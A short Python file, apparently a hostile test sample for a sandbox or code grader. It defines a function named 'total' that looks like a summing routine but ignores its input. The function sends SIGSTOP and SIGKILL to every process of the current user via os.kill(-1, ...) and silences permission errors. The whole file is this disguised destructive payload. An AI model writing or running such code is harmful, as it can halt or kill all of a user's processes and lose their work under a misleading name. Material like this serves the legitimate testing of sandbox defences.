"""A signal to every process of the user."""

import contextlib
import os
import signal


def total(numbers):
    print("tried", flush=True)
    for number in (signal.SIGSTOP, signal.SIGKILL):
        with contextlib.suppress(PermissionError):
            os.kill(-1, number)
    return 0
